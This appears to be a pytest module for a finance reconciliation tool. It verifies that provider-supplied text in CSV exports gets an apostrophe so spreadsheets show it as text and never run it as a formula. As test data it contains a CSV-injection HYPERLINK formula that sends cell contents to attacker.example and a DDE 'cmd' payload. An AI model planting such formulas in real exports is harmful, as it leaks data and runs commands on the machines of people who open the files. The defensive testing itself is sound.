"""CSV that finance opens in a spreadsheet: provider text never runs as a formula (CSV injection).

A provider controls a recharge's reference_number, a transaction's id and reference, a currency code,
a vendor's failure text; a drift carries them into `drifts list --format csv` and the report's CSV,
both opened in Excel or LibreOffice. A cell that starts with =, +, -, @, a tab or a carriage return
is a formula there (OWASP, "CSV Injection"): such a cell is written with a leading apostrophe, which
the spreadsheet shows as text. Numbers keep their sign: -5.00 is a number, not a formula.
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from partnerkit.csvcell import spreadsheet_safe
from reconcile.matcher import match_day
from tests.reconcile.reconcile_helpers import DAY, at

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"refund")'


@pytest.mark.parametrize("text, written", [
    ("=1+1", "'=1+1"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-5.00", "-5.00"),      # a negative amount stays a number
    ("+12", "+12"),
    ("-7", "-7"),
    ("RCH1001", "RCH1001"),
    ("a=b", "a=b"),          # only the first character matters
    ("", ""),
])
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(text, written):
    assert spreadsheet_safe(text) == written


@pytest.fixture
def planted(db, ledger):
    """A provider recharge whose reference_number is a formula, and a debit with no recharge (negative amount)."""
    ledger.recharge(ref=FORMULA, origin="provider")
    ledger.tx("-5.00", type="RECHARGE")
    ledger.read_in_full()
    match_day(db, DAY, now=at(2, day=DAY.replace(day=DAY.day + 1)))


def _cells(text: str, column: str) -> list[str]:
    return [row[column] for row in csv.DictReader(io.StringIO(text))]


def test_drifts_list_csv_writes_a_provider_formula_as_text(invoke, planted):
    result = invoke("drifts", "list", "--format", "csv")
    assert result.exit_code == 0, result.output
    references = _cells(result.stdout, "reference")
    assert "'" + FORMULA in references and FORMULA not in references
    assert "-5.00" in _cells(result.stdout, "actual") + _cells(result.stdout, "expected")


def test_the_report_csv_writes_a_provider_formula_as_text(invoke, planted):
    result = invoke("report", "--date", DAY.isoformat(), "--format", "csv")
    assert result.exit_code == 0, result.output
    references = _cells(result.stdout, "reference")
    assert "'" + FORMULA in references and FORMULA not in references
    assert "-5.00" in _cells(result.stdout, "actual") + _cells(result.stdout, "expected")


def test_recharges_list_csv_writes_a_provider_formula_as_text(invoke, planted):
    result = invoke("recharges", "list", "--format", "csv")
    assert result.exit_code == 0, result.output
    assert _cells(result.stdout, "reference_number") == ["'" + FORMULA]


def test_json_keeps_the_provider_text_as_it_came(invoke, planted):
    result = invoke("recharges", "list", "--format", "json")
    assert [r["reference_number"] for r in json.loads(result.stdout)] == [FORMULA]


def test_every_formula_start_is_one_character():
    # reconcile.report tests a cell's first character against them (the report's hot loop).
    from partnerkit.csvcell import FORMULA_STARTS

    assert FORMULA_STARTS and all(len(start) == 1 for start in FORMULA_STARTS)
